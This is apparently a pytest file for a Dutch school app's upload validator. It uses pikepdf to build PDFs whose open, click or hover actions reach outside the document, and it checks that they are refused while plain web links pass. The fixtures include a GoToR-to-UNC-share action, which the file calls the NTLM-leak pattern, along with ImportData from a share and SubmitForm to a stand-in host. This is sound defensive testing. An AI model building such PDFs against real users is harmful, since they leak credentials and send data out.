"""Issue 19 item 7: PDFs whose actions reach outside the document are refused; a plain web
link the reader clicks stays. Each PDF is built here with pikepdf."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest

from passend.bijlagen.controles import BestandGeweigerd, bestand_controleren
from passend.bijlagen.tests import bestanden

EXTERN_MELDING = (
    "‘OPP.pdf’ bevat een opdracht die vanzelf of met een klik een bestand, netwerkmap of "
    "website buiten het document opent, of gegevens verstuurt. Zulke PDF-bestanden kunnen "
    "schadelijk zijn en worden niet aangenomen. Druk het document af naar een nieuwe PDF "
    "(‘Afdrukken als PDF’) en probeer het opnieuw."
)
UNC = "\\\\10.0.0.66\\deel\\verslag.pdf"


def _document() -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(bestanden.pdf()))


def _bytes(document: pikepdf.Pdf, **opties: object) -> bytes:
    uit = io.BytesIO()
    document.save(uit, **opties)  # type: ignore[arg-type]
    return uit.getvalue()


def _met_openactie(actie: pikepdf.Dictionary, *, indirect: bool = False) -> bytes:
    document = _document()
    document.Root.OpenAction = document.make_indirect(actie) if indirect else actie
    return _bytes(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _met_link(actie: pikepdf.Dictionary, *, aa: bool = False) -> bytes:
    """A link annotation on the first page: the action on a click (/A), or as the annotation's
    additional action when the pointer enters it (/AA /E)."""
    document = _document()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 760, 300, 790]
    )
    if aa:
        link.AA = pikepdf.Dictionary(E=actie)
    else:
        link.A = actie
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))
    return _bytes(document)


def gotor_unc() -> bytes:
    """The NTLM-leak pattern: on opening, go to a file on a Windows share."""
    return _met_openactie(
        pikepdf.Dictionary(
            S=pikepdf.Name.GoToR, F=pikepdf.String(UNC), D=pikepdf.Array([0, pikepdf.Name.Fit])
        ),
        indirect=True,
    )


def gotor_unc_bestandsspecificatie() -> bytes:
    return _met_openactie(
        pikepdf.Dictionary(
            S=pikepdf.Name.GoToR,
            F=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String(UNC)),
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
        )
    )


def uri_bij_openen() -> bytes:
    return _met_openactie(
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://voorbeeld.example/"))
    )


def uri_via_next() -> bytes:
    """An innocent jump inside the document, chained to a web address."""
    return _met_openactie(
        pikepdf.Dictionary(
            S=pikepdf.Name.GoTo,
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
            Next=pikepdf.Dictionary(
                S=pikepdf.Name.URI, URI=pikepdf.String("https://voorbeeld.example/")
            ),
        )
    )


def uri_bij_aanwijzen() -> bytes:
    return _met_link(
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://voorbeeld.example/")),
        aa=True,
    )


def submitform_bij_openen() -> bytes:
    return _met_openactie(
        pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm,
            F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://x.example/")),
        )
    )


def importdata_bij_openen() -> bytes:
    return _met_openactie(
        pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String(UNC + ".fdf"))
    )


def submitform_in_link() -> bytes:
    return _met_link(
        pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm,
            F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://x.example/")),
        )
    )


def gotor_in_link() -> bytes:
    return _met_link(pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(UNC)))


def link_naar_share() -> bytes:
    return _met_link(
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file://10.0.0.66/deel"))
    )


def link_naar_unc() -> bytes:
    return _met_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(UNC)))


@pytest.mark.parametrize(
    "bouwer",
    [
        gotor_unc,
        gotor_unc_bestandsspecificatie,
        uri_bij_openen,
        uri_via_next,
        uri_bij_aanwijzen,
        submitform_bij_openen,
        importdata_bij_openen,
        submitform_in_link,
        gotor_in_link,
        link_naar_share,
        link_naar_unc,
    ],
)
def test_i19_pdf_with_an_action_reaching_outside_the_document_is_refused(
    tmp_path: Path, bouwer: Callable[[], bytes]
) -> None:
    pad = bestanden.schrijven(tmp_path / "upload.tmp", bouwer())
    with pytest.raises(BestandGeweigerd) as fout:
        bestand_controleren(pad, bestandsnaam="OPP.pdf", max_bytes=1024 * 1024)
    assert fout.value.melding == EXTERN_MELDING


@pytest.mark.parametrize(
    "uri", ["https://www.pporotterdam.nl/", "http://voorbeeld.example/", "mailto:zorg@school.nl"]
)
def test_i19_pdf_with_a_plain_web_link_is_accepted_and_shown_inline(
    tmp_path: Path, uri: str
) -> None:
    inhoud = _met_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri)))
    pad = bestanden.schrijven(tmp_path / "upload.tmp", inhoud)
    gecontroleerd = bestand_controleren(pad, bestandsnaam="OPP.pdf", max_bytes=1024 * 1024)
    assert (gecontroleerd.soort, gecontroleerd.inline_tonen) == ("pdf", True)


def test_i19_pdf_opening_at_a_page_of_its_own_is_accepted(tmp_path: Path) -> None:
    inhoud = _met_openactie(
        pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]))
    )
    pad = bestanden.schrijven(tmp_path / "upload.tmp", inhoud)
    assert bestand_controleren(pad, bestandsnaam="OPP.pdf", max_bytes=1024 * 1024).soort == "pdf"
